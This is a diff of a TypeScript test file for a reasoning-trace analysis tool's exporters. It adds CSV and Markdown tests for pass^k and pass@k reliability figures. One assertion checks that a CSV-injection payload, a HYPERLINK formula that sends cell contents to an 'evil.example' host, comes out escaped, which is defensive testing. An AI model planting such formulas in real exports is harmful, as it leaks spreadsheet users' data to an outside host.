@@ -164,26 +164,30 @@ test("CSV: a header, one row per prompt × run × column, RFC 4180 quoting, form
   assert.ok(csv.endsWith("\r\n"));
   const rows = parseCsv(csv);
   assert.deepEqual(rows[0], [...CSV_HEADER]);
-  assert.deepEqual(rows[0], ["prompt", "run", "column", "step", "group", "divergence", "is_fork_column", "answer_key", "correct", "step_text"]);
+  assert.deepEqual(rows[0], [
+    ...["prompt", "run", "column", "step", "group", "divergence", "is_fork_column", "answer_key", "correct", "step_text"],
+    ...["k", "pass_hat_k", "pass_hat_k_low", "pass_hat_k_high", "pass_at_k", "pass_at_k_low", "pass_at_k_high"],
+  ]);
   const expected = analysis.prompts.reduce((s, x) => s + x.runs.length * x.columns.length, 0);
-  assert.equal(rows.length - 1, expected, "rows = Σ runs × columns");
+  const stepRows = rows.slice(1).filter((r) => r[10] === "");
+  assert.equal(stepRows.length, expected, "step rows = Σ runs × columns");
   for (const r of rows) assert.equal(r.length, CSV_HEADER.length, "every row has every field");
 
   // the nasty texts read back exactly, with the guard's ' where a spreadsheet would see a formula
-  const stepTexts = rows.slice(1).map((r) => r[9]!);
+  const stepTexts = stepRows.map((r) => r[9]!);
   for (const text of placed) {
     const want = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
     assert.ok(stepTexts.includes(want), `step text ${JSON.stringify(text)} reads back as ${JSON.stringify(want)}`);
   }
   for (const field of rows.flat()) assert.doesNotMatch(field, /^[=+@\t\r]/, `no field starts a formula: ${JSON.stringify(field)}`);
-  for (const field of rows.slice(1).flatMap((r) => [r[0]!, r[7]!, r[9]!])) assert.ok(!/^-/.test(field) || field === "-3", `only plain numbers start with -: ${field}`);
+  for (const field of stepRows.flatMap((r) => [r[0]!, r[7]!, r[9]!])) assert.ok(!/^-/.test(field) || field === "-3", `only plain numbers start with -: ${field}`);
   assert.ok(rows.some((r) => r[7] === "-3"));
   assert.ok(rows.some((r) => r[7] === "'=1+1"));
   assert.match(csv, /"=HYPERLINK|"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""click me""\)"/);
 
   // the cells: gaps have an empty step, group and text; the fork column is flagged
   for (const pa of analysis.prompts) {
-    const mine = rows.slice(1).filter((r) => r[0] === pa.id);
+    const mine = stepRows.filter((r) => r[0] === pa.id);
     assert.equal(mine.length, pa.runs.length * pa.columns.length);
     for (const r of mine) {
       const cell = pa.columns[Number(r[2])]!.cells[Number(r[1])]!;
@@ -195,6 +199,80 @@ test("CSV: a header, one row per prompt × run × column, RFC 4180 quoting, form
       if (cell.step === null) assert.equal(r[9], "");
     }
   }
+});
+
+// ---- pass^k and pass@k (METRICS.md §7b) ----------------------------------------------------
+
+/** Three prompts: 5 of 8 correct (flags), 3 of 3 (reference), and one without a target. */
+function reliabilityAnalysis(): Analysis {
+  const flags = [true, false, true, true, false, true, false, true];
+  return analyzeRecords(
+    [
+      { id: "five-of-eight", samples: flags.map((ok, i) => ({ text: `step ${i}\nanswer`, answer: ok ? "24" : String(i), correct: ok })) },
+      { id: "all-three", reference: "24", samples: [0, 1, 2].map((i) => ({ text: `step ${i}`, answer: "24" })) },
+      { id: "no-target", samples: [0, 1].map((i) => ({ text: `step ${i}`, answer: String(i) })) },
+    ],
+    { resamples: 0 },
+  );
+}
+
+test("CSV: a pass^k / pass@k row for each k of each prompt with a target, then of the pool (empty prompt), exact numbers", () => {
+  const analysis = reliabilityAnalysis();
+  const rows = parseCsv(exportCsv(analysis));
+  const header = rows[0]!;
+  const at = (name: string) => header.indexOf(name);
+  for (const r of rows) assert.equal(r.length, header.length, "every row has every field");
+  const reliability = rows.slice(1).filter((r) => r[at("k")] !== "");
+  const steps = rows.slice(1).filter((r) => r[at("k")] === "");
+  assert.equal(steps.length, analysis.prompts.reduce((s, p) => s + p.n * p.columns.length, 0));
+  for (const r of steps) assert.deepEqual(r.slice(at("k")), ["", "", "", "", "", "", ""], "step rows leave the pass^k fields empty");
+  const check = (r: string[], k: number, f: { passHatK: number[]; passAtK: number[]; passHatKCi95: [number, number][]; passAtKCi95: [number, number][] }) => {
+    assert.equal(r[at("k")], String(k));
+    assert.deepEqual(
+      [r[at("pass_hat_k")], r[at("pass_hat_k_low")], r[at("pass_hat_k_high")], r[at("pass_at_k")], r[at("pass_at_k_low")], r[at("pass_at_k_high")]].map(Number),
+      [f.passHatK[k - 1], f.passHatKCi95[k - 1]![0], f.passHatKCi95[k - 1]![1], f.passAtK[k - 1], f.passAtKCi95[k - 1]![0], f.passAtKCi95[k - 1]![1]],
+      `k = ${k}`,
+    );
+    assert.deepEqual(r.slice(1, at("k")), new Array(at("k") - 1).fill(""), "no run, column or step on a pass^k row");
+  };
+  for (const p of analysis.prompts) {
+    const mine = reliability.filter((r) => r[0] === p.id);
+    if (!p.passHatK) {
+      assert.equal(mine.length, 0, `${p.id}: no target, no pass^k rows`);
+      continue;
+    }
+    assert.equal(mine.length, p.n, `${p.id}: k = 1..n`);
+    mine.forEach((r, i) => check(r, i + 1, p as Parameters<typeof check>[2]));
+  }
+  const pooled = reliability.filter((r) => r[0] === "");
+  const P = analysis.pooled;
+  assert.equal(pooled.length, 8, "pooled: k = 1..8 (the largest n)");
+  pooled.forEach((r, i) => check(r, i + 1, P as Parameters<typeof check>[2]));
+  assert.equal(Number(pooled[1]![at("pass_hat_k")]), ((5 * 4) / (8 * 7) + 1) / 2, "pooled pass^2: the mean of C(5,2)/C(8,2) and 1");
+});
+
+test("Markdown: a pass^k / pass@k table with intervals per prompt with a target (k = 1, 2, 3, 5 … n) and pooled", () => {
+  const analysis = reliabilityAnalysis();
+  const md = exportMarkdown(analysis);
+  const section = (title: string) => md.split(/^## /m).find((s) => s.startsWith(title)) ?? "";
+  const ci = (x: number, c: [number, number]) => `${x.toFixed(3)} [${c[0].toFixed(3)}–${c[1].toFixed(3)}]`;
+  const five = section("`five-of-eight`");
+  const p = analysis.prompts[0]!;
+  assert.match(five, /\| k \| pass\^k \[95% CI\] \| pass@k \[95% CI\] \|/);
+  const rows = five.split("\n").filter((l) => /^\| \d+ \|/.test(l));
+  assert.deepEqual(
+    rows.map((l) => cells(l).map((c) => c.trim())),
+    [1, 2, 3, 5, 8].map((k) => [String(k), ci(p.passHatK![k - 1]!, p.passHatKCi95![k - 1]!), ci(p.passAtK![k - 1]!, p.passAtKCi95![k - 1]!)]),
+  );
+  assert.doesNotMatch(section("`no-target`"), /pass\^k/, "no target: no pass^k table");
+  const pooled = section("Pooled");
+  assert.match(pooled, /\| k \| prompts \| pass\^k \[95% CI\] \| pass@k \[95% CI\] \|/);
+  const P = analysis.pooled;
+  const prow = pooled.split("\n").filter((l) => /^\| \d+ \| \d+ \|/.test(l));
+  assert.deepEqual(
+    prow.map((l) => cells(l).map((c) => c.trim())),
+    [1, 2, 3, 5, 8].map((k) => [String(k), String(P.passKPrompts![k - 1]), ci(P.passHatK![k - 1]!, P.passHatKCi95![k - 1]!), ci(P.passAtK![k - 1]!, P.passAtKCi95![k - 1]!)]),
+  );
 });
 
 test("guardFormula and mdCode on their own", () => {
@@ -487,7 +565,11 @@ test("hotmess export from the example trace set, every format", async () => {
       const first = JSON.parse(readFileSync(EXAMPLE, "utf8").split("\n")[0]!) as PromptRecord;
       assert.equal(doc.traces[0]!.runs[0]!.text, first.samples[0]!.text);
     }
-    if (format === "csv") assert.equal(parseCsv(text).length - 1, analysis.prompts.reduce((s, p) => s + p.n * p.columns.length, 0));
+    if (format === "csv") {
+      // a row per prompt × run × column, then a pass^k row per k of each prompt with a target and of the pool
+      const reliability = analysis.prompts.reduce((s, p) => s + (p.passHatK?.length ?? 0), 0) + (analysis.pooled.passHatK?.length ?? 0);
+      assert.equal(parseCsv(text).length - 1, analysis.prompts.reduce((s, p) => s + p.n * p.columns.length, 0) + reliability);
+    }
     if (format === "md") assert.match(text, new RegExp(`^# Hot Mess Inspector: ${analysis.prompts.length} prompts`));
     if (format === "html") assert.match(text, /Content-Security-Policy/);
   }
